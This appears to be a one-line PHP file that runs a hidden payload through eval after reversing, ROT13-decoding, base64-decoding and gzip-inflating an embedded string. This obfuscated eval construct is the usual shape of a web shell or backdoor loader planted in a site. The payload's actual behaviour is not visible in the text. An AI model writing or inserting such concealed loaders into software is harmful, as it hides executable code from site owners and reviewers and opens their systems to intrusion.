<?php eval(gzinflate(base64_decode(str_rot13(strrev('=NtNwmpmEiRmW5PXJ5FYW1flftRlFWY4B/l0Ze8GHo1H')))));
